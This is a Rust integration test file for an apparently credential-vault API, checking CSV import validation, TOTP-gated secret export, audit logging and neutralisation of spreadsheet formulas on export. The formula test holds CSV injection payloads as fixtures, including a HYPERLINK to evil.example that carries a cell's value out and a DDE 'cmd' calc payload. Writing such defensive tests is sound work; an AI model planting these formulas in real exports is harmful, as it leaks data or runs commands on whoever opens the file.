//! CSV import and export: every bad row reported with its line, nothing stored unless asked
//! to skip, secrets exported only with the permission and a fresh TOTP code.

use super::support::{audit_events, error_code, error_field, ok, ok_as, typed, Authenticator};
use chrono::Utc;
use reqwest::{Client, Method};
use serde_json::{json, Value};
use std::sync::Arc;
use tumbler_api_types::inventory::{AccountOut, AssetOut};
use tumbler_api_types::nodes::NodeOut;
use tumbler_api_types::transfer::{ImportOut, ProblemOut};
use tumbler_api_types::{ErrorAnswer, Page};
use tumbler_domain::ManualClock;
use tumbler_testkit::app::{StoreKind, TestApp};

async fn post_csv(app: &TestApp, token: &str, path: &str, csv: &str) -> (u16, Value) {
    let res = Client::new()
        .post(app.url(path))
        .bearer_auth(token)
        .header("content-type", "text/csv")
        .body(csv.to_owned())
        .send()
        .await
        .unwrap();
    let status = res.status().as_u16();
    (status, res.json().await.unwrap_or(Value::Null))
}

/// The refused rows of an `import_rejected` answer: (line, field).
fn lines_and_fields(body: &Value) -> Vec<(u64, String)> {
    let problems = typed::<ErrorAnswer>(body.clone())
        .error
        .details
        .and_then(|d| d.more.get("problems").cloned())
        .unwrap_or_else(|| panic!("problems in {body}"));
    typed::<Vec<ProblemOut>>(problems)
        .into_iter()
        .map(|p| (p.line, p.field.unwrap_or_default()))
        .collect()
}

/// The (imported, skipped) counts of a successful import.
fn imported(status: u16, body: Value) -> (usize, usize) {
    assert_eq!(status, 200, "{body}");
    let report: ImportOut = typed(body);
    (report.imported, report.skipped)
}

#[tokio::test]
async fn csv_imports_report_bad_rows_and_exports_keep_secrets_back_unless_asked() {
    let clock = Arc::new(ManualClock::new(Utc::now()));
    let app = TestApp::spawn_on(StoreKind::Postgres, clock.clone()).await;
    app.activate_admin().await;
    let token = app.admin_token().await;

    let assets = "name,address,port,platform,nodes,domain,comment\n\
        web-1,10.0.0.1,22,linux,/Default/Web,,first\n\
        bad addr,a b,22,linux,,,\n\
        web-2,10.0.0.2,0,linux,,,\n\
        web-1,10.0.0.3,,linux,,,\n\
        db-1,10.0.0.4,,postgresql,/Default/DB;/Default/Prod,,\n";
    let (status, body) = post_csv(&app, &token, "/api/v1/assets/import", assets).await;
    assert_eq!(
        (status, error_code(&body).as_str()),
        (422, "import_rejected"),
        "{body}"
    );
    assert_eq!(
        lines_and_fields(&body),
        [
            (3, "address".to_owned()),
            (4, "port".to_owned()),
            (5, "name".to_owned())
        ]
    );
    let list: Page<AssetOut> = ok_as(&app, &token, Method::GET, "/api/v1/assets", None, 200).await;
    assert_eq!(list.total, 0, "a file with errors stores nothing");
    let nodes: Page<NodeOut> = ok_as(&app, &token, Method::GET, "/api/v1/nodes", None, 200).await;
    assert_eq!(nodes.total, 0);
    let (status, body) = post_csv(
        &app,
        &token,
        "/api/v1/assets/import?skip_invalid=true",
        assets,
    )
    .await;
    assert_eq!(imported(status, body), (2, 3));
    let db: Page<AssetOut> = ok_as(
        &app,
        &token,
        Method::GET,
        "/api/v1/assets?q=db-1",
        None,
        200,
    )
    .await;
    assert_eq!(db.items[0].nodes, ["/Default/DB", "/Default/Prod"]);
    assert_eq!(db.items[0].port, 5432);
    let (status, body) = post_csv(&app, &token, "/api/v1/assets/import", "name,addr\nx,y\n").await;
    assert_eq!((status, error_field(&body).as_deref()), (400, Some("file")));

    let accounts = "asset,username,secret,privileged,options\n\
        web-1,deploy,canary-csv-secret-1,true,become=sudo\n\
        web-1,a;b,canary-bad-row-secret,,\n\
        nope,u,x,,\n\
        db-1,app,canary-csv-secret-2,,database=app\n\
        web-1,deploy,again,,\n";
    let (status, body) = post_csv(&app, &token, "/api/v1/accounts/import", accounts).await;
    assert_eq!(status, 422, "{body}");
    assert_eq!(
        lines_and_fields(&body),
        [
            // Marking an account privileged is done on the account, with a fresh code.
            (2, "privileged".to_owned()),
            (3, "username".to_owned()),
            (4, "asset".to_owned()),
        ]
    );
    assert!(
        !body.to_string().contains("canary-bad-row-secret"),
        "no secret in the report"
    );
    let list: Page<AccountOut> =
        ok_as(&app, &token, Method::GET, "/api/v1/accounts", None, 200).await;
    assert_eq!(list.total, 0);
    let (status, body) = post_csv(
        &app,
        &token,
        "/api/v1/accounts/import?skip_invalid=true",
        accounts,
    )
    .await;
    assert_eq!(imported(status, body).0, 2);
    let list: Page<AccountOut> = ok_as(
        &app,
        &token,
        Method::GET,
        "/api/v1/accounts?privileged=true",
        None,
        200,
    )
    .await;
    assert_eq!(list.total, 0, "no privileged account came in by file");
    let list: Page<AccountOut> = ok_as(
        &app,
        &token,
        Method::GET,
        "/api/v1/accounts?username=deploy",
        None,
        200,
    )
    .await;
    assert_eq!(
        list.items[0].options.get("become").map(String::as_str),
        Some("sudo")
    );
    assert!(!list.items[0].privileged);

    // Exports: assets and accounts without secrets for anyone who reads them.
    let res = Client::new()
        .get(app.url("/api/v1/assets/export"))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert!(res.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let text = res.text().await.unwrap();
    assert!(
        text.starts_with("name,address,port,platform,nodes,domain,comment,host_key_fingerprint")
    );
    assert!(
        text.contains("web-1,10.0.0.1,22,linux,/Default/Web,Default,first,"),
        "{text}"
    );
    let export = |body: Value| {
        Client::new()
            .post(app.url("/api/v1/accounts/export"))
            .bearer_auth(&token)
            .json(&body)
            .send()
    };
    let res = export(json!({})).await.unwrap();
    assert_eq!(res.status(), 200);
    let text = res.text().await.unwrap();
    assert_eq!(text.lines().count(), 3, "{text}");
    assert!(
        !text.contains("canary-csv-secret") && !text.contains("again"),
        "{text}"
    );
    let res = export(json!({"include_secrets": true})).await.unwrap();
    assert_eq!(res.status(), 403, "no TOTP enrolled: no secrets");
    let authenticator = Authenticator::enrol(&app, &token, clock.clone()).await;
    let res = export(json!({"include_secrets": true})).await.unwrap();
    assert_eq!(res.status(), 401, "a code is required");
    let res = export(json!({"include_secrets": true, "totp": authenticator.fresh_code()}))
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let text = res.text().await.unwrap();
    assert!(
        text.contains("web-1,Default,deploy,password,false,become=sudo;shell=/bin/sh,again"),
        "{text}"
    );
    assert!(text.contains("canary-csv-secret-2"));
    let audit = audit_events(&app, &token, "account.export").await;
    assert!(
        audit.iter().any(|e| e.detail.contains("secrets included")),
        "{audit:?}"
    );
    // Every field of every event, not only the detail.
    assert!(!format!("{audit:?}").contains("canary-csv-secret"));
    app.stop().await;
}

/// Parses a CSV export into rows of cells.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Whether a spreadsheet would run the cell as a formula.
fn live_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[tokio::test]
async fn formula_cells_come_out_inert_in_both_exports_and_import_back_unchanged() {
    let clock = Arc::new(ManualClock::new(Utc::now()));
    let app = TestApp::spawn_on(StoreKind::Sqlite, clock.clone()).await;
    app.activate_admin().await;
    let token = app.admin_token().await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&G2,\"x\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "-2+3",
    ];
    for (i, name) in names.iter().enumerate() {
        ok(
            &app,
            &token,
            Method::POST,
            "/api/v1/assets",
            Some(json!({"name": name, "address": format!("10.0.0.{}", i + 1),
                        "platform": "linux", "comment": "=1+1"})),
            201,
        )
        .await;
    }
    let (status, body) = post_csv(
        &app,
        &token,
        "/api/v1/accounts/import",
        &format!(
            "asset,username,secret\n\"{}\",root,=canary-formula-secret\n",
            names[0].replace('"', "\"\"")
        ),
    )
    .await;
    assert_eq!(imported(status, body).0, 1);

    let assets = Client::new()
        .get(app.url("/api/v1/assets/export"))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let authenticator = Authenticator::enrol(&app, &token, clock.clone()).await;
    let accounts = Client::new()
        .post(app.url("/api/v1/accounts/export"))
        .bearer_auth(&token)
        .json(&json!({"include_secrets": true, "totp": authenticator.fresh_code()}))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let plain = Client::new()
        .post(app.url("/api/v1/accounts/export"))
        .bearer_auth(&token)
        .json(&json!({}))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    for text in [&assets, &accounts, &plain] {
        let rows = csv_rows(text);
        assert!(rows.len() >= 2, "{text}");
        for cell in rows.iter().flatten() {
            assert!(!live_formula(cell), "live formula cell {cell:?} in {text}");
        }
    }
    let asset_rows = csv_rows(&assets);
    for name in names {
        assert!(
            asset_rows.iter().any(|r| r[0] == format!("'{name}")),
            "{name} guarded in {assets}"
        );
    }
    let account_rows = csv_rows(&accounts);
    assert_eq!(account_rows[1][0], format!("'{}", names[0]));
    assert_eq!(account_rows[1][6], "'=canary-formula-secret");

    // The guard is taken off on import: an export imports back as the same values.
    let (status, body) = post_csv(
        &app,
        &token,
        "/api/v1/accounts/import?skip_invalid=true",
        &accounts.replace(",root,", ",root2,"),
    )
    .await;
    assert_eq!(imported(status, body).0, 1);
    let list: Page<AccountOut> = ok_as(
        &app,
        &token,
        Method::GET,
        "/api/v1/accounts?username=root2",
        None,
        200,
    )
    .await;
    assert_eq!(list.items[0].asset_name, names[0], "{list:?}");
    let again = Client::new()
        .post(app.url("/api/v1/accounts/export"))
        .bearer_auth(&token)
        .json(&json!({"include_secrets": true, "totp": authenticator.fresh_code()}))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let rows = csv_rows(&again);
    let root2 = rows
        .iter()
        .find(|r| r[2] == "root2")
        .expect("root2 exported");
    assert_eq!(
        root2[6], "'=canary-formula-secret",
        "the secret kept its value"
    );
    app.stop().await;
}
